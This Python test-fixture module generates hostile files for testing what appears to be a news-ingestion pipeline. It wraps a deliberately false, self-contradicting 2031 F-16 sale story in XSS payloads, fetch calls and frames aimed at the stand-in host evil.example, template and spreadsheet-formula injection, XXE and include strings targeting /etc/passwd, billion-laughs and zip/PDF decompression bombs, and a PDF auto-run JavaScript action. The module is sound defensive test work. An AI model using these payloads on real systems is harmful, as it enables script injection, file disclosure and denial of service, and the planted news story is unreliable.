"""Documents that mean harm, written for these tests: each has a true-looking sale in it, so that its words get into
deals, pages, briefs and exports. What they would run sets ``window.ran``; where they would go is ``evil.example``.
"""

from __future__ import annotations

import io
import json
import zipfile
import zlib
from pathlib import Path

RUN = "window.ran=1;alert(1);fetch('http://evil.example/f')"
SALE = (
    "Turkey signed a contract to buy 12 {0} F-16 fighters from the United States for $900 million on Monday, "
    "said {0} Ali Example, a spokesman of {0} the defence ministry. The deal was denied by {0} Washington on Tuesday: "
    "the United States has not sold F-16 fighters to Turkey, the State Department said."
)

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "image": f'"><img src=x onerror="{RUN}">',
    "vector": f'<svg onload="{RUN}"><script>{RUN}</script><foreignObject><body onload="{RUN}"></foreignObject></svg>',
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></table></mtext></math>',
    "style": "</style><style>@import url(http://evil.example/x.css);*{background:url(http://evil.example/b)}</style>",
    "attribute": f"' autofocus onfocus='{RUN}' style='position:fixed;inset:0' x='",
    "frame": "<iframe src='http://evil.example/'></iframe><object data='http://evil.example/o'></object>",
    "base": "<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "form": "</form><form action='http://evil.example/'><button>Show</button>",
    "comment": f"<!--><script>{RUN}</script>--><![CDATA[<script>{RUN}</script>]]>",
    "template": "{{7*7}}{% include '/etc/passwd' %}${7*7}<%= 7*7 %>#{7*7}",
    "entity": f"&lt;script&gt;{RUN}&lt;/script&gt;&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;&amp;lt;b&amp;gt;",
    "end": f"</title></textarea></div></mark></main><script>{RUN}</script>",
    "formula": "=HYPERLINK(\"http://evil.example/\",\"x\") @SUM(1) +1|cmd",
    "markdown": f"[x](javascript:{RUN}) ![x](http://evil.example/i) <http://evil.example/>",
    "turned": "\u202egnihton\u202c \u2066\u2067 \u200f \u061c",
    "heaped": "a" + "\u0301" * 300,
    "control": "\x01\x08\x0b\x0c\x1b[31m\x7f\x85\u2028\u2029\ufeff\ufffe",
}  # fmt: skip


def write_all(folder: Path) -> list[str]:
    """Writes them into a folder and gives the paths."""
    for name, harm in MARKUP.items():
        text = f"{harm} Turkey to buy fighters\n\n2031-06-0{len(name) % 9 + 1}\n\n{SALE.format(harm)}\n"
        (folder / f"{name}.txt").write_text(text, encoding="utf-8")
        (folder / f"{name}.html").write_text(_page(harm), encoding="utf-8")
    rows = (_row(name, harm) for name, harm in MARKUP.items())
    (folder / "rows.jsonl").write_text("".join(rows) + _surrogates(), encoding="ascii")
    for name, content in _raw().items():
        (folder / name).write_bytes(content)
    return sorted(str(path) for path in folder.iterdir())


def _page(harm: str) -> str:
    return (
        f"<!doctype html><html><head><title>{harm} Turkey to buy fighters</title>"
        f'<meta property="og:site_name" content="{harm}"><meta name="date" content="2031-06-05"></head>'
        f'<body onload="{RUN}"><article><h1>Turkey to buy fighters {harm}</h1><p>{SALE.format(harm)}</p>'
        f"<p>{SALE.format('')}</p></article></body></html>"
    )


def _row(name: str, harm: str) -> str:
    told = {
        "text": SALE.format(harm),
        "doc": f"{name} {harm}",
        "title": f"{harm} fighters",
        "publisher": harm,
        "published": "2031-06-09",
        "url": f"javascript:{RUN}//{harm}",
    }
    return json.dumps(told) + "\n"


def _surrogates() -> str:
    text = SALE.format("\ud800")
    return json.dumps({"text": text, "doc": "lone \udfff", "title": "lone \ud800", "published": "2031-06-10"}) + "\n"


def _raw() -> dict[str, bytes]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    cells = "".join(f"<tr><td>{n}</td><td>{SALE.format(n) if n < 3 else 'F-16'}</td></tr>" for n in range(4_000))
    return {
        "laughs.html": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><p>&l11; {SALE.format("")}</p>'.encode(),
        "outside.html": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><p>&e; {SALE.format("")}</p>'.encode(),
        "deep.html": (b"<div><b>" * 4_000) + SALE.format("").encode(),
        "table.html": f"<html><body><table>{cells}</table></body></html>".encode(),
        "word.txt": f"Fighters\n\n2031-06-01\n\n{SALE.format('x' * 100_000)}\n".encode(),
        "nul.txt": f"Fighters\n\n2031-06-01\n\n{SALE.format(chr(0))}\n".encode(),
        "bytes.txt": b"\xff\xfe\x00\x80" + SALE.format("\xe9").encode("latin-1"),
        "bomb.docx": _bomb(),
        "bomb.pdf": _pdf(zlib.compress(b" " * 20_000_000, 9)),
        "action.pdf": _pdf(zlib.compress(b"BT /F1 12 Tf 72 700 Td (" + SALE.format("").encode() + b") Tj ET")),
        "cut.pdf": _pdf(b"")[:120],
    }


def _bomb() -> bytes:
    """A small file that unpacks to twenty million blanks."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * 20_000_000)
    return held.getvalue()


def _pdf(stream: bytes) -> bytes:
    """A page with a stream, and an action that would run when it is opened."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
        b"/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>endobj\n"
        + f"4 0 obj<</Filter/FlateDecode/Length {len(stream)}>>stream\n".encode()
        + stream
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )
